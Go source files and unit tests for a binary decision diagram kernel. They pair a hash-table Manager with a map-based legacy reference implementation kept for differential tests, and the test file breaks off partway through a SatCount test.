// differential tests, and the old-vs-new benchmarks are written
// against it so the two kernels run identical workloads.
type Kernel interface {
	NumVars() int
	Size() int
	SetBudget(*guard.Budget)
	Stats() Stats
	Var(v int) Ref
	NVar(v int) Ref
	Ite(f, g, h Ref) Ref
	And(f, g Ref) Ref
	Or(f, g Ref) Ref
	Not(f Ref) Ref
	Xor(f, g Ref) Ref
	Implies(f, g Ref) Ref
	AndN(fs ...Ref) Ref
	OrN(fs ...Ref) Ref
	InternVarSet(vars map[int]bool) VarSet
	InternShift(shift map[int]int) Shift
	ExistsSet(f Ref, vs VarSet) Ref
	AndExistsSet(f, g Ref, vs VarSet) Ref
	RenameShift(f Ref, sh Shift) Ref
	Exists(f Ref, vars map[int]bool) Ref
	AndExists(f, g Ref, vars map[int]bool) Ref
	Rename(f Ref, shift map[int]int) Ref
	Eval(f Ref, assign []bool) bool
	SatCount(f Ref) float64
	AnySat(f Ref) []bool
}

// iteEntry is one direct-mapped computed-table slot; f == False marks
// an empty slot (Ite never caches terminal f).
type iteEntry struct {
	f, g, h, r Ref
}

// Computed-table operation tags for opEntry. Zero marks an empty slot.
const (
	opExists uint32 = iota + 1
	opAndExists
	opRename
)

// opEntry is one quantify/rename computed-table slot, keyed by
// (op, f, g, set) where set is an interned VarSet or Shift id.
type opEntry struct {
	f, g Ref
	op   uint32
	set  int32
	r    Ref
}

// varSet is an interned set of variable levels.
type varSet struct {
	member   []bool // indexed by level, sized nvars
	maxLevel int    // highest member level (-1 for the empty set)
}

// shiftMap is an interned level renaming, dense over all levels
// (identity where unmapped).
type shiftMap struct {
	apply []int32 // indexed by old level, sized nvars
}

// Initial table sizes (slots; all power-of-two). The unique table
// grows by doubling; the lossy computed tables are resized (and
// cleared) alongside it, up to their caps, so small managers stay
// small and big fixpoints get big caches.
const (
	initialUniqueSize = 1 << 8
	initialITESize    = 1 << 10
	initialOpSize     = 1 << 10
	maxITESize        = 1 << 20
	maxOpSize         = 1 << 18
)

// Manager owns the node store for a family of BDDs.
type Manager struct {
	nodes []node

	// Open-addressed unique table: slot values are node indices, 0
	// (the False terminal, never interned) marks an empty slot.
	unique      []Ref
	uniqueCount int
	rehashes    int

	// Direct-mapped lossy computed tables.
	ite []iteEntry
	ops []opEntry

	iteLookups, iteHits uint64
	opLookups, opHits   uint64

	// Interned variable sets and shift maps.
	varSets   []varSet
	varSetIdx map[string]VarSet
	shifts    []shiftMap
	shiftIdx  map[string]Shift

	nvars  int
	budget *guard.Budget
}

// SetBudget attaches a resource budget: node allocation is charged
// against MaxBDDNodes and Ite cooperatively checks the wall-clock
// deadline. A nil budget (the default) disables all checks.
func (m *Manager) SetBudget(b *guard.Budget) { m.budget = b }

// New creates a manager with the given number of variables.
func New(nvars int) *Manager {
	m := &Manager{
		unique:    make([]Ref, initialUniqueSize),
		ite:       make([]iteEntry, initialITESize),
		ops:       make([]opEntry, initialOpSize),
		varSetIdx: map[string]VarSet{},
		shiftIdx:  map[string]Shift{},
		nvars:     nvars,
	}
	m.nodes = append(m.nodes,
		node{level: maxLevel}, // False
		node{level: maxLevel}, // True
	)
	return m
}

// NumVars returns the number of variables.
func (m *Manager) NumVars() int { return m.nvars }

// Size returns the number of allocated nodes (including terminals).
func (m *Manager) Size() int { return len(m.nodes) }

// Stats snapshots the kernel's table counters.
func (m *Manager) Stats() Stats {
	return Stats{
		Nodes:          len(m.nodes),
		UniqueCapacity: len(m.unique),
		UniqueLoad:     float64(m.uniqueCount) / float64(len(m.unique)),
		Rehashes:       m.rehashes,
		ITELookups:     m.iteLookups,
		ITEHits:        m.iteHits,
		ITEHitRate:     rate(m.iteHits, m.iteLookups),
		OpLookups:      m.opLookups,
		OpHits:         m.opHits,
		OpHitRate:      rate(m.opHits, m.opLookups),
	}
}

// mix3 is the unique/computed-table hash: a phase-mix of the three key
// words (multiply-xor rounds with 64-bit odd constants, finalized by
// xor-shifts), truncated by the caller to the table's power-of-two
// mask.
func mix3(a, b, c uint64) uint64 {
	h := a * 0x9E3779B97F4A7C15
	h ^= (b + 0x9E3779B97F4A7C15) * 0xC2B2AE3D27D4EB4F
	h ^= (c + 0xC2B2AE3D27D4EB4F) * 0x165667B19E3779F9
	h ^= h >> 29
	h *= 0xBF58476D1CE4E5B9
	h ^= h >> 32
	return h
}

// mk returns the canonical node (level, lo, hi).
func (m *Manager) mk(level int, lo, hi Ref) Ref {
	if lo == hi {
		return lo
	}
	mask := uint64(len(m.unique) - 1)
	slot := mix3(uint64(level), uint64(lo), uint64(hi)) & mask
	for {
		r := m.unique[slot]
		if r == 0 {
			break
		}
		if n := &m.nodes[r]; n.level == level && n.lo == lo && n.hi == hi {
			return r
		}
		slot = (slot + 1) & mask
	}
	m.budget.BDDNodes(1, "bdd")
	r := Ref(len(m.nodes))
	m.nodes = append(m.nodes, node{level: level, lo: lo, hi: hi})
	m.unique[slot] = r
	m.uniqueCount++
	if m.uniqueCount*4 > len(m.unique)*3 {
		m.growUnique()
	}
	return r
}

// growUnique doubles the unique table and reinserts every node. The
// lossy computed tables are resized (cleared) alongside it so their
// capacity tracks the live node count.
func (m *Manager) growUnique() {
	old := len(m.unique)
	m.budget.TickN(uint64(old), "bdd")
	m.unique = make([]Ref, old*2)
	mask := uint64(len(m.unique) - 1)
	for i := 2; i < len(m.nodes); i++ {
		n := &m.nodes[i]
		slot := mix3(uint64(n.level), uint64(n.lo), uint64(n.hi)) & mask
		for m.unique[slot] != 0 {
			slot = (slot + 1) & mask
		}
		m.unique[slot] = Ref(i)
	}
	m.rehashes++
	if len(m.ite) < maxITESize && len(m.ite) < len(m.unique) {
		m.ite = make([]iteEntry, len(m.ite)*2)
	}
	if len(m.ops) < maxOpSize && len(m.ops) < len(m.unique) {
		m.ops = make([]opEntry, len(m.ops)*2)
	}
}

// Var returns the BDD for variable v.
func (m *Manager) Var(v int) Ref {
	if v < 0 || v >= m.nvars {
		panic(fmt.Sprintf("bdd: variable %d out of range", v))
	}
	return m.mk(v, False, True)
}

// NVar returns the BDD for ¬v.
func (m *Manager) NVar(v int) Ref {
	if v < 0 || v >= m.nvars {
		panic(fmt.Sprintf("bdd: variable %d out of range", v))
	}
	return m.mk(v, True, False)
}

func (m *Manager) level(r Ref) int { return m.nodes[r].level }

// rankBefore reports whether a orders before b in the canonical
// operand order for commutative standard triples: by top level, then
// by reference.
func (m *Manager) rankBefore(a, b Ref) bool {
	la, lb := m.nodes[a].level, m.nodes[b].level
	if la != lb {
		return la < lb
	}
	return a < b
}

// Ite computes if-then-else(f, g, h) — the universal connective.
//
// The triple is normalized before the computed-table probe (standard
// triples, adapted to a kernel without complement edges): repeated
// arguments collapse (ITE(f,f,h)=ITE(f,1,h), ITE(f,g,f)=ITE(f,g,0))
// and the commutative forms OR (g=1) and AND (h=0) order their two
// operands canonically, so ITE(f,1,h)/ITE(h,1,f) — and the And
// variants — share one cache slot.
func (m *Manager) Ite(f, g, h Ref) Ref {
	// Terminal cases.
	if f == True {
		return g
	}
	if f == False {
		return h
	}
	if g == f {
		g = True
	}
	if h == f {
		h = False
	}
	if g == h {
		return g
	}
	if g == True && h == False {
		return f
	}
	// Commutative standard triples.
	if g == True { // f ∨ h
		if m.rankBefore(h, f) {
			f, h = h, f
		}
	} else if h == False { // f ∧ g
		if m.rankBefore(g, f) {
			f, g = g, f
		}
	}
	slot := mix3(uint64(f), uint64(g), uint64(h)) & uint64(len(m.ite)-1)
	m.iteLookups++
	if e := &m.ite[slot]; e.f == f && e.g == g && e.h == h {
		m.iteHits++
		return e.r
	}
	m.budget.Tick("bdd")
	// Split on the top variable.
	top := m.level(f)
	if l := m.level(g); l < top {
		top = l
	}
	if l := m.level(h); l < top {
		top = l
	}
	f0, f1 := m.cofactors(f, top)
	g0, g1 := m.cofactors(g, top)
	h0, h1 := m.cofactors(h, top)
	lo := m.Ite(f0, g0, h0)
	hi := m.Ite(f1, g1, h1)
	r := m.mk(top, lo, hi)
	// The table may have been resized (and cleared) by the recursion;
	// recompute the slot before the lossy overwrite.
	slot = mix3(uint64(f), uint64(g), uint64(h)) & uint64(len(m.ite)-1)
	m.ite[slot] = iteEntry{f: f, g: g, h: h, r: r}
	return r
}

func (m *Manager) cofactors(f Ref, level int) (lo, hi Ref) {
	n := m.nodes[f]
	if n.level != level {
		return f, f
	}
	return n.lo, n.hi
}

// And computes f ∧ g.
func (m *Manager) And(f, g Ref) Ref { return m.Ite(f, g, False) }

// Or computes f ∨ g.
func (m *Manager) Or(f, g Ref) Ref { return m.Ite(f, True, g) }

// Not computes ¬f.
func (m *Manager) Not(f Ref) Ref { return m.Ite(f, False, True) }

// Xor computes f ⊕ g.
func (m *Manager) Xor(f, g Ref) Ref { return m.Ite(f, m.Not(g), g) }

// Implies computes f → g.
func (m *Manager) Implies(f, g Ref) Ref { return m.Ite(f, g, True) }

// AndN conjoins several BDDs.
func (m *Manager) AndN(fs ...Ref) Ref {
	r := True
	for _, f := range fs {
		r = m.And(r, f)
	}
	return r
}

// OrN disjoins several BDDs.
func (m *Manager) OrN(fs ...Ref) Ref {
	r := False
	for _, f := range fs {
		r = m.Or(r, f)
	}
	return r
}

// ---------------------------------------------------------------------------
// Interned variable sets and shift maps

// InternVarSet interns a set of variable levels for the Set-suffixed
// quantification entry points. Levels outside [0, NumVars) can never
// label a node and are dropped. Interning is content-based: equal sets
// return equal handles, so computed-table entries keyed by the handle
// survive across calls.
func (m *Manager) InternVarSet(vars map[int]bool) VarSet {
	levels := make([]int, 0, len(vars))
	for v, on := range vars {
		if on && v >= 0 && v < m.nvars {
			levels = append(levels, v)
		}
	}
	sort.Ints(levels)
	key := levelsKey(levels)
	if id, ok := m.varSetIdx[key]; ok {
		return id
	}
	vs := varSet{member: make([]bool, m.nvars), maxLevel: -1}
	for _, v := range levels {
		vs.member[v] = true
		vs.maxLevel = v
	}
	id := VarSet(len(m.varSets))
	m.varSets = append(m.varSets, vs)
	m.varSetIdx[key] = id
	return id
}

// InternShift interns a level-renaming map (old level → new level) for
// RenameShift. The mapping must be monotone on the mapped levels —
// sorted by old level, the new levels must be strictly increasing —
// and every level must lie in [0, NumVars); InternShift panics
// otherwise. (A mapping that passes this check can still cross an
// unmapped level occurring in a particular BDD; RenameShift checks
// per-node and fails loudly there too.)
func (m *Manager) InternShift(shift map[int]int) Shift {
	olds := make([]int, 0, len(shift))
	for o := range shift {
		olds = append(olds, o)
	}
	sort.Ints(olds)
	key := shiftKey(olds, shift)
	if id, ok := m.shiftIdx[key]; ok {
		return id
	}
	prev := -1
	for _, o := range olds {
		n := shift[o]
		if o < 0 || o >= m.nvars || n < 0 || n >= m.nvars {
			panic(fmt.Sprintf("bdd: Rename shift %d->%d outside variable range [0,%d)", o, n, m.nvars))
		}
		if n <= prev {
			panic(fmt.Sprintf("bdd: Rename shift map is not monotone: level %d maps to %d, not above the previous image %d", o, n, prev))
		}
		prev = n
	}
	sm := shiftMap{apply: make([]int32, m.nvars)}
	for i := range sm.apply {
		sm.apply[i] = int32(i)
	}
	for o, n := range shift {
		sm.apply[o] = int32(n)
	}
	id := Shift(len(m.shifts))
	m.shifts = append(m.shifts, sm)
	m.shiftIdx[key] = id
	return id
}

func levelsKey(levels []int) string {
	b := make([]byte, 0, 4*len(levels))
	for _, v := range levels {
		b = strconv.AppendInt(b, int64(v), 10)
		b = append(b, ',')
	}
	return string(b)
}

func shiftKey(olds []int, shift map[int]int) string {
	b := make([]byte, 0, 8*len(olds))
	for _, o := range olds {
		b = strconv.AppendInt(b, int64(o), 10)
		b = append(b, ':')
		b = strconv.AppendInt(b, int64(shift[o]), 10)
		b = append(b, ',')
	}
	return string(b)
}

// opProbe probes the quantify/rename computed table; it returns the
// slot index and whether it holds the entry for (op, f, g, set).
func (m *Manager) opProbe(op uint32, f, g Ref, set int32) (uint64, bool) {
	slot := mix3(uint64(op)<<32|uint64(uint32(set)), uint64(f), uint64(g)) & uint64(len(m.ops)-1)
	m.opLookups++
	e := &m.ops[slot]
	if e.op == op && e.f == f && e.g == g && e.set == set {
		m.opHits++
		return slot, true
	}
	return slot, false
}

// opStore records a result in the (lossy) computed table. The table
// may have been resized by nested mk calls, so the slot is recomputed.
func (m *Manager) opStore(op uint32, f, g Ref, set int32, r Ref) {
	slot := mix3(uint64(op)<<32|uint64(uint32(set)), uint64(f), uint64(g)) & uint64(len(m.ops)-1)
	m.ops[slot] = opEntry{op: op, f: f, g: g, set: set, r: r}
}

// ---------------------------------------------------------------------------
// Quantification and renaming

// Exists existentially quantifies the variables in vars (given as a
// set of levels).
func (m *Manager) Exists(f Ref, vars map[int]bool) Ref {
	return m.ExistsSet(f, m.InternVarSet(vars))
}

// ExistsSet is Exists over an interned variable set — the allocation-
// free entry point fixpoint loops should use.
func (m *Manager) ExistsSet(f Ref, vs VarSet) Ref {
	return m.existsRec(f, &m.varSets[vs], int32(vs))
}

func (m *Manager) existsRec(f Ref, vs *varSet, id int32) Ref {
	if f == True || f == False {
		return f
	}
	n := m.nodes[f]
	if n.level > vs.maxLevel {
		// No quantified variable occurs below this level.
		return f
	}
	if slot, ok := m.opProbe(opExists, f, 0, id); ok {
		return m.ops[slot].r
	}
	m.budget.Tick("bdd")
	lo := m.existsRec(n.lo, vs, id)
	var r Ref
	if vs.member[n.level] {
		if lo == True {
			r = True
		} else {
			r = m.Or(lo, m.existsRec(n.hi, vs, id))
		}
	} else {
		r = m.mk(n.level, lo, m.existsRec(n.hi, vs, id))
	}
	m.opStore(opExists, f, 0, id, r)
	return r
}

// AndExists computes ∃vars. (f ∧ g) — the relational product used for
// symbolic preimages — without building the full conjunction first.
func (m *Manager) AndExists(f, g Ref, vars map[int]bool) Ref {
	return m.AndExistsSet(f, g, m.InternVarSet(vars))
}

// AndExistsSet is AndExists over an interned variable set.
func (m *Manager) AndExistsSet(f, g Ref, vs VarSet) Ref {
	return m.andExistsRec(f, g, &m.varSets[vs], int32(vs))
}

func (m *Manager) andExistsRec(f, g Ref, vs *varSet, id int32) Ref {
	if f == False || g == False {
		return False
	}
	if f == True {
		return m.existsRec(g, vs, id)
	}
	if g == True || f == g {
		return m.existsRec(f, vs, id)
	}
	if f > g { // ∧ commutes: canonical operand order doubles hit rate
		f, g = g, f
	}
	slot, ok := m.opProbe(opAndExists, f, g, id)
	if ok {
		return m.ops[slot].r
	}
	m.budget.Tick("bdd")
	top := m.level(f)
	if l := m.level(g); l < top {
		top = l
	}
	f0, f1 := m.cofactors(f, top)
	g0, g1 := m.cofactors(g, top)
	lo := m.andExistsRec(f0, g0, vs, id)
	var r Ref
	if top <= vs.maxLevel && vs.member[top] {
		if lo == True {
			r = True
		} else {
			r = m.Or(lo, m.andExistsRec(f1, g1, vs, id))
		}
	} else {
		r = m.mk(top, lo, m.andExistsRec(f1, g1, vs, id))
	}
	m.opStore(opAndExists, f, g, id, r)
	return r
}

// Rename substitutes variables according to the level map (old level
// -> new level). The mapping must be monotone (order-preserving) over
// the levels occurring in f, so the result remains reduced and
// ordered; a crossing rename panics (see InternShift and RenameShift)
// instead of silently producing a non-canonical BDD.
func (m *Manager) Rename(f Ref, shift map[int]int) Ref {
	return m.RenameShift(f, m.InternShift(shift))
}

// RenameShift is Rename over an interned shift map. Each rebuilt node
// is checked against its children: if the renamed level does not stay
// strictly above both subgraphs' top levels, the mapping is not
// monotone over f's levels and RenameShift panics.
func (m *Manager) RenameShift(f Ref, sh Shift) Ref {
	return m.renameRec(f, &m.shifts[sh], int32(sh))
}

func (m *Manager) renameRec(f Ref, sm *shiftMap, id int32) Ref {
	if f == True || f == False {
		return f
	}
	if slot, ok := m.opProbe(opRename, f, 0, id); ok {
		return m.ops[slot].r
	}
	m.budget.Tick("bdd")
	n := m.nodes[f]
	lvl := int(sm.apply[n.level])
	lo := m.renameRec(n.lo, sm, id)
	hi := m.renameRec(n.hi, sm, id)
	if lvl >= m.level(lo) || lvl >= m.level(hi) {
		panic(fmt.Sprintf(
			"bdd: Rename shift map is not monotone over the BDD: level %d renamed to %d does not stay above its children (levels %d, %d)",
			n.level, lvl, m.level(lo), m.level(hi)))
	}
	r := m.mk(lvl, lo, hi)
	m.opStore(opRename, f, 0, id, r)
	return r
}

// ---------------------------------------------------------------------------
// Evaluation and counting

// Eval evaluates f under a full assignment (level -> value).
func (m *Manager) Eval(f Ref, assign []bool) bool {
	for f != True && f != False {
		n := m.nodes[f]
		if assign[n.level] {
			f = n.hi
		} else {
			f = n.lo
		}
	}
	return f == True
}

// SatCount returns the number of satisfying assignments over all
// manager variables. Counts are float64: beyond 2^1024 assignments
// (roughly 1024 free variables) the count saturates to +Inf — callers
// comparing counts at very high variable counts should treat +Inf as
// "astronomically many", not as an error.
func (m *Manager) SatCount(f Ref) float64 {
	cache := map[Ref]float64{}
	var rec func(f Ref, level int) float64
	rec = func(f Ref, level int) float64 {
		if f == False {
			return 0
		}
		if f == True {
			return pow2(m.nvars - level)
		}
		n := m.nodes[f]
		below, ok := cache[f]
		if !ok {
			below = rec(n.lo, n.level+1) + rec(n.hi, n.level+1)
			cache[f] = below
		}
		return below * pow2(n.level-level)
	}
	return rec(f, 0)
}

// pow2 returns 2^n as a float64, saturating to +Inf for n > 1023
// (float64's exponent range) instead of looping n multiplications.
func pow2(n int) float64 {
	return math.Ldexp(1, n)
}

// AnySat returns one satisfying assignment of f (nil when f is
// unsatisfiable). Unconstrained variables are reported false.
func (m *Manager) AnySat(f Ref) []bool {
	if f == False {
		return nil
	}
	assign := make([]bool, m.nvars)
	for f != True {
		n := m.nodes[f]
		if n.hi != False {
			assign[n.level] = true
			f = n.hi
		} else {
			f = n.lo
		}
	}
	return assign
}
