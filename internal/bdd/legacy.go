package bdd

import (
	"fmt"

	"github.com/soteria-analysis/soteria/internal/guard"
)

type triple struct {
	level  int
	lo, hi Ref
}

type iteKey struct{ f, g, h Ref }

// LegacyManager is the previous map-based kernel — Go-map unique
// table, unbounded ITE cache, and a fresh per-call cache for every
// quantify/rename — kept verbatim as the reference implementation for
// differential tests and the old-vs-new numbers in BENCH_bdd.json. It
// intentionally preserves the old semantics, including silently
// producing a wrong BDD on a non-monotone Rename (the bug the Manager
// now rejects loudly); do not use it outside tests and benchmarks.
type LegacyManager struct {
	nodes    []node
	unique   map[triple]Ref
	iteCache map[iteKey]Ref
	nvars    int
	budget   *guard.Budget

	varSets []map[int]bool
	shifts  []map[int]int

	iteLookups, iteHits uint64
	opLookups           uint64
}

// NewLegacy creates a map-based manager with the given number of
// variables.
func NewLegacy(nvars int) *LegacyManager {
	m := &LegacyManager{
		unique:   map[triple]Ref{},
		iteCache: map[iteKey]Ref{},
		nvars:    nvars,
	}
	m.nodes = append(m.nodes,
		node{level: maxLevel}, // False
		node{level: maxLevel}, // True
	)
	return m
}

// SetBudget attaches a resource budget (see Manager.SetBudget).
func (m *LegacyManager) SetBudget(b *guard.Budget) { m.budget = b }

// NumVars returns the number of variables.
func (m *LegacyManager) NumVars() int { return m.nvars }

// Size returns the number of allocated nodes (including terminals).
func (m *LegacyManager) Size() int { return len(m.nodes) }

// Stats reports what the map-based kernel can measure: node and ITE
// cache counters. UniqueCapacity/UniqueLoad are zero — a Go map has no
// fixed slot array — and the per-call quantify caches have no hits to
// report across calls.
func (m *LegacyManager) Stats() Stats {
	return Stats{
		Nodes:      len(m.nodes),
		ITELookups: m.iteLookups,
		ITEHits:    m.iteHits,
		ITEHitRate: rate(m.iteHits, m.iteLookups),
		OpLookups:  m.opLookups,
	}
}

// mk returns the canonical node (level, lo, hi).
func (m *LegacyManager) mk(level int, lo, hi Ref) Ref {
	if lo == hi {
		return lo
	}
	k := triple{level, lo, hi}
	if r, ok := m.unique[k]; ok {
		return r
	}
	m.budget.BDDNodes(1, "bdd")
	r := Ref(len(m.nodes))
	m.nodes = append(m.nodes, node{level: level, lo: lo, hi: hi})
	m.unique[k] = r
	return r
}

// Var returns the BDD for variable v.
func (m *LegacyManager) Var(v int) Ref {
	if v < 0 || v >= m.nvars {
		panic(fmt.Sprintf("bdd: variable %d out of range", v))
	}
	return m.mk(v, False, True)
}

// NVar returns the BDD for ¬v.
func (m *LegacyManager) NVar(v int) Ref {
	return m.mk(v, True, False)
}

func (m *LegacyManager) level(r Ref) int { return m.nodes[r].level }

// Ite computes if-then-else(f, g, h) — the universal connective.
func (m *LegacyManager) Ite(f, g, h Ref) Ref {
	// Terminal cases.
	switch {
	case f == True:
		return g
	case f == False:
		return h
	case g == h:
		return g
	case g == True && h == False:
		return f
	}
	k := iteKey{f, g, h}
	m.iteLookups++
	if r, ok := m.iteCache[k]; ok {
		m.iteHits++
		return r
	}
	m.budget.Tick("bdd")
	// Split on the top variable.
	top := m.level(f)
	if l := m.level(g); l < top {
		top = l
	}
	if l := m.level(h); l < top {
		top = l
	}
	f0, f1 := m.cofactors(f, top)
	g0, g1 := m.cofactors(g, top)
	h0, h1 := m.cofactors(h, top)
	lo := m.Ite(f0, g0, h0)
	hi := m.Ite(f1, g1, h1)
	r := m.mk(top, lo, hi)
	m.iteCache[k] = r
	return r
}

func (m *LegacyManager) cofactors(f Ref, level int) (lo, hi Ref) {
	n := m.nodes[f]
	if n.level != level {
		return f, f
	}
	return n.lo, n.hi
}

// And computes f ∧ g.
func (m *LegacyManager) And(f, g Ref) Ref { return m.Ite(f, g, False) }

// Or computes f ∨ g.
func (m *LegacyManager) Or(f, g Ref) Ref { return m.Ite(f, True, g) }

// Not computes ¬f.
func (m *LegacyManager) Not(f Ref) Ref { return m.Ite(f, False, True) }

// Xor computes f ⊕ g.
func (m *LegacyManager) Xor(f, g Ref) Ref { return m.Ite(f, m.Not(g), g) }

// Implies computes f → g.
func (m *LegacyManager) Implies(f, g Ref) Ref { return m.Ite(f, g, True) }

// AndN conjoins several BDDs.
func (m *LegacyManager) AndN(fs ...Ref) Ref {
	r := True
	for _, f := range fs {
		r = m.And(r, f)
	}
	return r
}

// OrN disjoins several BDDs.
func (m *LegacyManager) OrN(fs ...Ref) Ref {
	r := False
	for _, f := range fs {
		r = m.Or(r, f)
	}
	return r
}

// InternVarSet stores the set for the Set entry points; the legacy
// kernel has no cross-call computed table, so the handle only avoids
// re-passing the map.
func (m *LegacyManager) InternVarSet(vars map[int]bool) VarSet {
	cp := make(map[int]bool, len(vars))
	for v, on := range vars {
		if on {
			cp[v] = true
		}
	}
	m.varSets = append(m.varSets, cp)
	return VarSet(len(m.varSets) - 1)
}

// InternShift stores the shift map for RenameShift.
func (m *LegacyManager) InternShift(shift map[int]int) Shift {
	cp := make(map[int]int, len(shift))
	for o, n := range shift {
		cp[o] = n
	}
	m.shifts = append(m.shifts, cp)
	return Shift(len(m.shifts) - 1)
}

// ExistsSet delegates to the per-call-cache Exists.
func (m *LegacyManager) ExistsSet(f Ref, vs VarSet) Ref {
	return m.Exists(f, m.varSets[vs])
}

// AndExistsSet delegates to the per-call-cache AndExists.
func (m *LegacyManager) AndExistsSet(f, g Ref, vs VarSet) Ref {
	return m.AndExists(f, g, m.varSets[vs])
}

// RenameShift delegates to the per-call-cache Rename.
func (m *LegacyManager) RenameShift(f Ref, sh Shift) Ref {
	return m.Rename(f, m.shifts[sh])
}

// Exists existentially quantifies the variables in vars (given as a
// set of levels).
func (m *LegacyManager) Exists(f Ref, vars map[int]bool) Ref {
	m.opLookups++
	cache := map[Ref]Ref{}
	var rec func(f Ref) Ref
	rec = func(f Ref) Ref {
		if f == True || f == False {
			return f
		}
		if r, ok := cache[f]; ok {
			return r
		}
		n := m.nodes[f]
		lo := rec(n.lo)
		hi := rec(n.hi)
		var r Ref
		if vars[n.level] {
			r = m.Or(lo, hi)
		} else {
			r = m.mk(n.level, lo, hi)
		}
		cache[f] = r
		return r
	}
	return rec(f)
}

// AndExists computes ∃vars. (f ∧ g) without building the conjunction.
func (m *LegacyManager) AndExists(f, g Ref, vars map[int]bool) Ref {
	m.opLookups++
	type key struct{ f, g Ref }
	cache := map[key]Ref{}
	var rec func(f, g Ref) Ref
	rec = func(f, g Ref) Ref {
		if f == False || g == False {
			return False
		}
		if f == True && g == True {
			return True
		}
		k := key{f, g}
		if r, ok := cache[k]; ok {
			return r
		}
		top := m.level(f)
		if l := m.level(g); l < top {
			top = l
		}
		f0, f1 := m.cofactors(f, top)
		g0, g1 := m.cofactors(g, top)
		lo := rec(f0, g0)
		var r Ref
		if vars[top] {
			if lo == True {
				r = True
			} else {
				hi := rec(f1, g1)
				r = m.Or(lo, hi)
			}
		} else {
			hi := rec(f1, g1)
			r = m.mk(top, lo, hi)
		}
		cache[k] = r
		return r
	}
	return rec(f, g)
}

// Rename substitutes variables according to the level map (old level
// -> new level). The mapping must be monotone (order-preserving);
// unlike the Manager, the legacy kernel does NOT check and silently
// produces a wrong BDD on a crossing rename — that is the preserved
// old behavior the regression tests pin against.
func (m *LegacyManager) Rename(f Ref, shift map[int]int) Ref {
	m.opLookups++
	cache := map[Ref]Ref{}
	var rec func(f Ref) Ref
	rec = func(f Ref) Ref {
		if f == True || f == False {
			return f
		}
		if r, ok := cache[f]; ok {
			return r
		}
		n := m.nodes[f]
		lvl := n.level
		if nl, ok := shift[lvl]; ok {
			lvl = nl
		}
		r := m.mk(lvl, rec(n.lo), rec(n.hi))
		cache[f] = r
		return r
	}
	return rec(f)
}

// Eval evaluates f under a full assignment (level -> value).
func (m *LegacyManager) Eval(f Ref, assign []bool) bool {
	for f != True && f != False {
		n := m.nodes[f]
		if assign[n.level] {
			f = n.hi
		} else {
			f = n.lo
		}
	}
	return f == True
}

// SatCount returns the number of satisfying assignments over all
// manager variables (saturating like Manager.SatCount).
func (m *LegacyManager) SatCount(f Ref) float64 {
	cache := map[Ref]float64{}
	var rec func(f Ref, level int) float64
	rec = func(f Ref, level int) float64 {
		if f == False {
			return 0
		}
		if f == True {
			return pow2(m.nvars - level)
		}
		n := m.nodes[f]
		below, ok := cache[f]
		if !ok {
			below = rec(n.lo, n.level+1) + rec(n.hi, n.level+1)
			cache[f] = below
		}
		return below * pow2(n.level-level)
	}
	return rec(f, 0)
}

// AnySat returns one satisfying assignment of f (nil when f is
// unsatisfiable). Unconstrained variables are reported false.
func (m *LegacyManager) AnySat(f Ref) []bool {
	if f == False {
		return nil
	}
	assign := make([]bool, m.nvars)
	for f != True {
		n := m.nodes[f]
		if n.hi != False {
			assign[n.level] = true
			f = n.hi
		} else {
			f = n.lo
		}
	}
	return assign
}

// Compile-time checks that both kernels satisfy the shared surface.
var (
	_ Kernel = (*Manager)(nil)
	_ Kernel = (*LegacyManager)(nil)
)
