package bdd

import (
	"testing"
	"testing/quick"
)

func TestTerminals(t *testing.T) {
	m := New(2)
	if m.Not(True) != False || m.Not(False) != True {
		t.Error("Not on terminals")
	}
	if m.And(True, False) != False || m.Or(False, True) != True {
		t.Error("And/Or on terminals")
	}
}

func TestVarSemantics(t *testing.T) {
	m := New(3)
	x := m.Var(0)
	if !m.Eval(x, []bool{true, false, false}) || m.Eval(x, []bool{false, true, true}) {
		t.Error("Var eval wrong")
	}
	nx := m.NVar(0)
	if m.Eval(nx, []bool{true, false, false}) {
		t.Error("NVar eval wrong")
	}
	if m.Not(x) != nx {
		t.Error("Not(Var) should be canonical with NVar")
	}
}

func TestCanonicity(t *testing.T) {
	m := New(3)
	x, y := m.Var(0), m.Var(1)
	a := m.And(x, y)
	b := m.Not(m.Or(m.Not(x), m.Not(y))) // De Morgan
	if a != b {
		t.Error("equivalent formulas must share a node")
	}
	if m.And(x, m.Not(x)) != False {
		t.Error("x ∧ ¬x must be False")
	}
	if m.Or(x, m.Not(x)) != True {
		t.Error("x ∨ ¬x must be True")
	}
}

// Property: And/Or/Xor agree with boolean evaluation on random
// assignments of 4 variables.
func TestOpsAgainstEval(t *testing.T) {
	m := New(4)
	x := []Ref{m.Var(0), m.Var(1), m.Var(2), m.Var(3)}
	f := m.Or(m.And(x[0], x[1]), m.Xor(x[2], x[3]))
	check := func(a, b, c, d bool) bool {
		got := m.Eval(f, []bool{a, b, c, d})
		expect := (a && b) || (c != d)
		return got == expect
	}
	if err := quick.Check(check, nil); err != nil {
		t.Error(err)
	}
}

func TestImplies(t *testing.T) {
	m := New(2)
	x, y := m.Var(0), m.Var(1)
	f := m.Implies(x, y)
	cases := []struct {
		a, b bool
		want bool
	}{
		{false, false, true}, {false, true, true}, {true, false, false}, {true, true, true},
	}
	for _, c := range cases {
		if got := m.Eval(f, []bool{c.a, c.b}); got != c.want {
			t.Errorf("(%t -> %t) = %t", c.a, c.b, got)
		}
	}
}

func TestExists(t *testing.T) {
	m := New(2)
	x, y := m.Var(0), m.Var(1)
	f := m.And(x, y)
	g := m.Exists(f, map[int]bool{0: true})
	if g != y {
		t.Error("∃x. x∧y should be y")
	}
	h := m.Exists(f, map[int]bool{0: true, 1: true})
	if h != True {
		t.Error("∃x,y. x∧y should be true")
	}
	if m.Exists(False, map[int]bool{0: true}) != False {
		t.Error("∃x. false should be false")
	}
}

func TestAndExistsMatchesComposition(t *testing.T) {
	m := New(4)
	x0, x1, x2, x3 := m.Var(0), m.Var(1), m.Var(2), m.Var(3)
	f := m.Or(m.And(x0, x1), x2)
	g := m.Or(m.And(x1, x3), m.Not(x0))
	vars := map[int]bool{1: true, 3: true}
	direct := m.Exists(m.And(f, g), vars)
	fused := m.AndExists(f, g, vars)
	if direct != fused {
		t.Error("AndExists disagrees with Exists∘And")
	}
}

func TestRename(t *testing.T) {
	m := New(4)
	x0 := m.Var(0)
	f := m.And(x0, m.Var(2))
	g := m.Rename(f, map[int]int{0: 1, 2: 3})
	want := m.And(m.Var(1), m.Var(3))
	if g != want {
		t.Error("rename failed")
	}
}

func TestSatCount(t *testing.T) {
	m := New(3)
	x, y := m.Var(0), m.Var(1)
	if n := m.SatCount(True); n != 8 {
		t.Errorf("SatCount(true) = %g", n)
	}
